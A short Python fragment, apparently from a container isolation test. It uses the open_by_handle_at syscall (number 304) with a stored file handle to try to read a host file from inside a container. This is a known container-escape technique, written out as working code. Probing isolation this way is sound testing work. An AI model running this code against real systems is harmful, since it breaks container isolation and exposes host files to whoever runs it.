# A file of the host opened by its number instead of its path (open_by_handle_at), from wherever its disk shows inside.
OPEN_BY_HANDLE_AT = 304


def by_handle():
    handle = ctypes.create_string_buffer(bytes.fromhex(setting("SECRET_HANDLE")))
    failures = []
    for place in ("/", "/usr", "/etc/hosts", "/etc/hostname", "/tmp"):
        try:
            here = os.open(place, os.O_RDONLY)
            return os.read(call(OPEN_BY_HANDLE_AT, here, handle, os.O_RDONLY), 4096).decode().strip()
        except OSError as error:
            failures.append(f"{place}: {error}")
    raise Refused(", ".join(failures))


attempt(by_handle)
